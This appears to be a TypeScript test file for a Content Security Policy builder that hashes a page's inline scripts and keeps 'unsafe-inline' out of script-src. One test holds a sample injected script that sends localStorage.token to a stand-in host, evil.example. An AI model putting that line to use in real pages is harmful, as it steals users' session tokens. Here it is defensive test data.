import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { inlineScriptHashes } from './inline-script-hashes';
import { contentSecurityPolicy } from './static-headers';

const sha = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

const PAGE = [
  '<!DOCTYPE html><html><head>',
  '<script src="/_next/static/chunks/main.js" async=""></script>',
  '<script>self.__next_f=self.__next_f||[]</script>',
  '</head><body>',
  '<script id="_R_">self.__next_r="x"</script>',
  '<SCRIPT type="module">import("/a.js")</SCRIPT >',
  '<script>self.__next_f=self.__next_f||[]</script>',
  '</body></html>',
].join('');

test("a page's inline scripts are hashed as the browser hashes them, once each, in order", () => {
  assert.deepEqual(inlineScriptHashes(PAGE), [sha('self.__next_f=self.__next_f||[]'), sha('self.__next_r="x"'), sha('import("/a.js")')]);
});

test('scripts loaded by src are left to script-src self, not hashed', () => {
  assert.deepEqual(inlineScriptHashes('<script src="/x.js"></script><script async src=/y.js></script>'), []);
});

test('entities in script text are hashed as written, not decoded', () => {
  assert.deepEqual(inlineScriptHashes('<script>a&amp;&lt;b</script>'), [sha('a&amp;&lt;b')]);
});

test("the policy lists the page's hashes and never 'unsafe-inline' for scripts", () => {
  const csp = contentSecurityPolicy(47320, inlineScriptHashes(PAGE));
  const scriptSrc = csp.split('; ').find((d) => d.startsWith('script-src '))!;
  assert.equal(scriptSrc, `script-src 'self' ${inlineScriptHashes(PAGE).join(' ')}`);
  assert.doesNotMatch(scriptSrc, /unsafe-inline/);
});

test('an injected inline script with an unknown hash is not in the header', () => {
  const injected = 'fetch("https://evil.example/?t="+localStorage.token)';
  const csp = contentSecurityPolicy(47320, inlineScriptHashes(PAGE));
  assert.ok(!csp.includes(sha(injected)));
  // The same page with the script injected would list it: the hashes come from the served bytes,
  // and those are the build's, not anything a request can add.
  assert.ok(contentSecurityPolicy(47320, inlineScriptHashes(PAGE + `<script>${injected}</script>`)).includes(sha(injected)));
});
